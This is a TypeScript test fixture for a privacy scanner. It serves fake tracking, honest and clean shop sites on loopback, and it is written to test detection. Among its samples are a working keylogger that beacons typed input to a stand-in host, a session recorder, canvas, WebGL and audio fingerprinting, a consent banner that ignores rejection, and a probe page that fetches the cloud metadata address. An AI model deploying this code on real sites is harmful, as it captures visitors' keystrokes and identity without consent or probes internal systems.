/**
 * The browser stage's fixture sites on one loopback HTTPS server, told apart by Host: a tracking
 * shop and a clean one, and the third parties they load under the trackers' real names
 * (www.google-analytics.com, connect.facebook.net, www.facebook.com) plus a fingerprinting CDN.
 * Nothing resolves these names but `resolver` (every one → 127.0.0.1), used by the passive scan
 * and by the browser's guarded proxy; the certificate is generated here and passed as `ca`.
 *
 * tracking-shop.test: GA and the Facebook pixel before any consent, a OneTrust-style banner whose
 * "Reject all" autoconsent finds and clicks but that changes nothing (the tags load again after the
 * reload), GPC ignored while /.well-known/gpc.json claims support, a canvas, WebGL and audio
 * fingerprinter, a key logger that beacons what is typed into the newsletter field before any submit,
 * and a session recorder that observes every DOM mutation and input and posts them.
 * honest-shop.test: the same banner, Google Analytics only after "Accept" (never chosen): reject honoured.
 * clean-shop.test: one first-party page, no third party, accessible; /inaccessible is the same shop
 * with axe violations (an image without alt text, a field without a label, no lang, grey on white).
 */
import { mkdtemp, rm } from 'node:fs/promises';
import https from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { readFile } from 'node:fs/promises';
import type { Resolver } from '../../../src/scanner/gather/guard.ts';
import { selfSignedCertificate } from '../../sites/pki.ts';

export const NAMES = {
  tracking: 'tracking-shop.test',
  clean: 'clean-shop.test',
  honest: 'honest-shop.test',
  ga: 'www.google-analytics.com',
  fbScript: 'connect.facebook.net',
  fbPixel: 'www.facebook.com',
  fp: 'cdn.fingerprint-fixture.test',
  keys: 'keys.keylog-fixture.test',
  replay: 'rec.replay-fixture.test',
} as const;

export interface FixtureSites {
  port: number;
  trackingUrl: string;
  cleanUrl: string;
  honestUrl: string;
  /** The generated certificate (its own CA): pass as `ca`. */
  caPem: string;
  resolver: Resolver;
  /** Every request the server answered: host, path, Sec-GPC and the request headers. */
  requests: {
    host: string;
    path: string;
    gpc?: string;
    headers: Record<string, string | string[] | undefined>;
  }[];
  close(): Promise<void>;
}

const page = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;

/** OneTrust's markup as autoconsent's Onetrust rule knows it; "reject" only records the choice. */
const BANNER = `
<div id="onetrust-banner-sdk" role="dialog" aria-label="Cookie consent" style="position:fixed;bottom:0;left:0;right:0;padding:16px;background:#fff;border-top:1px solid #000">
  <p>We use cookies.</p>
  <button id="onetrust-accept-btn-handler">Accept all</button>
  <button id="onetrust-reject-all-handler">Reject all</button>
</div>
<script src="/consent.js"></script>`;

const CONSENT_JS = `
window.OnetrustActiveGroups = document.cookie.includes('OptanonConsent=rejected') ? ',C0001,' : ',C0001,C0002,C0004,';
const banner = document.getElementById('onetrust-banner-sdk');
if (document.cookie.includes('OptanonConsent=')) banner.style.display = 'none';
document.getElementById('onetrust-reject-all-handler').addEventListener('click', () => {
  document.cookie = 'OptanonConsent=rejected; path=/; max-age=31536000';
  window.OnetrustActiveGroups = ',C0001,';
  banner.style.display = 'none';
});
document.getElementById('onetrust-accept-btn-handler').addEventListener('click', () => {
  document.cookie = 'OptanonConsent=accepted; path=/; max-age=31536000';
  banner.style.display = 'none';
});`;

const GA_JS = `
document.cookie = '_ga=GA1.1.' + Math.floor(Math.random() * 1e9) + '.1765000000; path=/; max-age=63072000';
navigator.sendBeacon('https://${NAMES.ga}:PORT/g/collect?v=2&tid=G-FIXTURE1&en=page_view&dl=' + encodeURIComponent(location.href));`;

const FB_JS = `
new Image().src = 'https://${NAMES.fbPixel}:PORT/tr/?id=123456789&ev=PageView&dl=' + encodeURIComponent(location.href);`;

const FP_JS = `
const c = document.createElement('canvas'); c.width = 240; c.height = 60;
const x = c.getContext('2d');
x.textBaseline = 'top'; x.font = '14px Arial';
x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
window.__fp = c.toDataURL();
const gl = document.createElement('canvas').getContext('webgl');
const info = gl && gl.getExtension('WEBGL_debug_renderer_info');
if (info) window.__gl = [gl.getParameter(info.UNMASKED_VENDOR_WEBGL), gl.getParameter(info.UNMASKED_RENDERER_WEBGL)];
const ctx = new OfflineAudioContext(1, 5000, 44100);
const osc = ctx.createOscillator(); osc.type = 'triangle'; osc.frequency.value = 10000;
const comp = ctx.createDynamicsCompressor(); comp.threshold.value = -50;
osc.connect(comp); comp.connect(ctx.destination); osc.start(0);
ctx.oncomplete = (event) => { window.__audio = event.renderedBuffer.getChannelData(0)[4500]; };
ctx.startRendering();`;

/** Collects every key pressed in any input and beacons them when the field is left, never waiting for a submit. */
const KEYS_JS = `
let typed = '';
document.addEventListener('keydown', (e) => { if (e.target instanceof HTMLInputElement && e.key.length === 1) typed += e.key; }, true);
document.addEventListener('change', () => { if (typed) navigator.sendBeacon('https://${NAMES.keys}:PORT/k', JSON.stringify({ keys: typed })); }, true);`;

/** A session recorder by behaviour: every mutation of the document, keys and pointer, posted. */
const REPLAY_JS = `
const events = [];
new MutationObserver((m) => events.push(['m', m.length])).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
document.addEventListener('keydown', () => events.push(['k']));
document.addEventListener('mousemove', (e) => events.push(['p', e.clientX, e.clientY]));
document.body.appendChild(document.createElement('div'));
setTimeout(() => fetch('https://${NAMES.replay}:PORT/ingest', { method: 'POST', body: JSON.stringify(events), keepalive: true }), 50);`;

const TRACKING_HOME = page(
  'Tracking shop',
  `<main><h1>Tracking shop</h1><p>Everything on sale.</p>
<form action="/subscribe" method="post"><label>E-mail <input type="email" name="email"></label><button>Subscribe</button></form></main>
${BANNER}
<script src="https://${NAMES.ga}:PORT/analytics.js"></script>
<script src="https://${NAMES.fbScript}:PORT/en_US/fbevents.js"></script>
<script src="https://${NAMES.fp}:PORT/fp.js"></script>
<script src="https://${NAMES.keys}:PORT/keys.js"></script>
<script src="https://${NAMES.replay}:PORT/recorder.js"></script>`,
);

/** A hostile page: reaches for cloud metadata and for localhost, which Chromium would not proxy by default. */
const PROBE = page(
  'Probe',
  `<main><h1>Probe</h1></main><script>
Promise.allSettled(['http://169.254.169.254/latest/meta-data/', 'http://[fd00:ec2::254]/', 'http://localhost:PORT/']
  .map((u) => fetch(u, { mode: 'no-cors' }))).then(() => { document.title = 'Probe done'; });
</script>`,
);

const HONEST_HOME = page(
  'Honest shop',
  `<main><h1>Honest shop</h1></main>
${BANNER}
<script>if (document.cookie.includes('OptanonConsent=accepted')) document.head.appendChild(Object.assign(document.createElement('script'), { src: 'https://${NAMES.ga}:PORT/analytics.js' }));</script>`,
);

const CLEAN_HOME = page(
  'Clean shop',
  `<main><h1>Clean shop</h1><p>No trackers here.</p><a href="/about">About us</a></main>`,
);

/** Violates axe's image-alt (critical, WCAG A), label (critical, A), html-has-lang (serious, A) and color-contrast (serious, AA). */
const INACCESSIBLE = `<!doctype html><html><head><meta charset="utf-8"><title>Inaccessible shop</title></head><body>
<main><h1>Inaccessible shop</h1>
<p id="faint" style="color:#bbb;background:#fff">Prices include VAT.</p>
<img id="hero" src="/hero.gif" width="40" height="40">
<form><input id="coupon" type="text" name="coupon"><button>Apply</button></form></main></body></html>`;

interface Answer {
  /** Send the headers and never finish the body (a visit's time limit must end it). */
  hang?: boolean;
  status?: number;
  type?: string;
  body: string;
  headers?: Record<string, string | string[]>;
}

function route(host: string, pathname: string, port: number): Answer | undefined {
  const js = (body: string): Answer => ({
    type: 'text/javascript',
    body: body.replaceAll('PORT', String(port)),
  });
  const html = (body: string): Answer => ({
    type: 'text/html; charset=utf-8',
    body: body.replaceAll('PORT', String(port)),
  });
  switch (`${host}${pathname}`) {
    case `${NAMES.tracking}/`:
      return html(TRACKING_HOME);
    case `${NAMES.tracking}/consent.js`:
      return js(CONSENT_JS);
    case `${NAMES.tracking}/.well-known/gpc.json`:
      return { type: 'application/json', body: '{"gpc": true, "lastUpdate": "2026-01-01"}' };
    case `${NAMES.honest}/`:
      return html(HONEST_HOME);
    case `${NAMES.honest}/consent.js`:
      return js(CONSENT_JS);
    case `${NAMES.clean}/`:
      return html(CLEAN_HOME);
    case `${NAMES.clean}/inaccessible`:
      return html(INACCESSIBLE);
    case `${NAMES.clean}/hero.gif`:
      return { type: 'image/gif', body: '' };
    case `${NAMES.clean}/probe`:
      return html(PROBE);
    case `${NAMES.clean}/slow`:
      return { type: 'text/html', body: '<!doctype html><title>never', hang: true };
    case `${NAMES.ga}/analytics.js`:
      return js(GA_JS);
    case `${NAMES.ga}/g/collect`:
      return { status: 204, body: '' };
    case `${NAMES.fbScript}/en_US/fbevents.js`:
      return js(FB_JS);
    case `${NAMES.fbPixel}/tr/`:
      return {
        type: 'image/gif',
        body: '',
        headers: {
          // fr is kept (third-party cookies allowed); datr lacks SameSite=None, so Chromium refuses it
          // in a third-party response and the scan reports it from the response with the reason.
          'set-cookie': [
            'fr=0abc123def.1765000000; Domain=.facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None; HttpOnly',
            'datr=Xk9fixture; Domain=.facebook.com; Path=/; Max-Age=63072000; Secure; HttpOnly',
          ],
        },
      };
    case `${NAMES.fp}/fp.js`:
      return js(FP_JS);
    case `${NAMES.keys}/keys.js`:
      return js(KEYS_JS);
    case `${NAMES.keys}/k`:
    case `${NAMES.replay}/ingest`:
      return { status: 204, body: '' };
    case `${NAMES.replay}/recorder.js`:
      return js(REPLAY_JS);
    default:
      return undefined;
  }
}

export async function startFixtureSites(): Promise<FixtureSites> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'vioscan-browser-fixture-'));
  const sans = Object.values(NAMES)
    .map((n) => `DNS:${n}`)
    .join(',');
  const { certFile, keyFile } = await selfSignedCertificate(dir, 'fixture', {
    cn: NAMES.tracking,
    days: 90,
    extensions: [`subjectAltName=${sans}`, 'basicConstraints=critical,CA:TRUE'],
  });
  const cert = await readFile(certFile, 'utf8');
  const key = await readFile(keyFile, 'utf8');
  const requests: FixtureSites['requests'] = [];
  const sockets = new Set<Socket>();
  let port = 0;
  const server = https.createServer({ cert, key }, (req, res) => {
    const host = (req.headers.host ?? '').replace(/:\d+$/, '');
    const pathname = (req.url ?? '/').split('?')[0]!;
    const gpc = req.headers['sec-gpc'];
    requests.push({
      host,
      path: req.url ?? '/',
      ...(typeof gpc === 'string' && { gpc }),
      headers: req.headers,
    });
    const answer = route(host, pathname, port);
    if (!answer) {
      res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
      return;
    }
    if (answer.hang) {
      res.writeHead(200, { 'content-type': 'text/html' }).write(answer.body);
      return;
    }
    res
      .writeHead(answer.status ?? 200, {
        ...(answer.type && { 'content-type': answer.type }),
        'cache-control': 'no-store',
        'strict-transport-security': 'max-age=63072000',
        'x-content-type-options': 'nosniff',
        ...answer.headers,
      })
      .end(answer.body);
  });
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  server.on('tlsClientError', () => undefined);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  const known = new Set<string>(Object.values(NAMES));
  const resolver: Resolver = async (host) => {
    if (known.has(host)) return [{ address: '127.0.0.1', family: 4 }];
    throw Object.assign(new Error(`${host}: not a fixture name`), { code: 'ENOTFOUND' });
  };
  return {
    port,
    trackingUrl: `https://${NAMES.tracking}:${port}/`,
    cleanUrl: `https://${NAMES.clean}:${port}/`,
    honestUrl: `https://${NAMES.honest}:${port}/`,
    caPem: cert,
    resolver,
    requests,
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await rm(dir, { recursive: true, force: true });
    },
  };
}
